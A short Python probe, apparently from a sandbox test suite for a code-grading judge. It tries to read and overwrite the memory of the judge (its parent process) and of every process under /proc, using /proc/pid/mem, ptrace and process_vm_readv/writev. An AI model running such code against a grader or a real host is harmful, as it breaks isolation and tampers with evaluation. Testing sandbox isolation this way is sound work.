"""Reads and changes the memory of every process that it can name, the judge's first."""

import ctypes
import glob
import os

HARMLESS = True
NEEDS = ("other processes",)


def attack(answer):
    """By /proc, by ptrace, and by the call that copies between processes."""
    library, room = ctypes.CDLL(None), ctypes.create_string_buffer(4096)
    piece = (ctypes.c_void_p * 2)(ctypes.addressof(room), 4096)
    processes = [os.getppid(), *(int(p[6:]) for p in _attempt(glob.glob, "/proc/[0-9]*") or ())]
    for process in processes:
        memory = _attempt(open, f"/proc/{process}/mem", "r+b", 0)
        if memory:
            raise SystemExit(memory.read(16))
        library.ptrace(16, process, None, None)
        library.process_vm_readv(process, piece, 1, piece, 1, 0)
        library.process_vm_writev(process, piece, 1, piece, 1, 0)
    return answer


def _attempt(function, *arguments):
    try:
        return function(*arguments)
    except OSError:
        return None
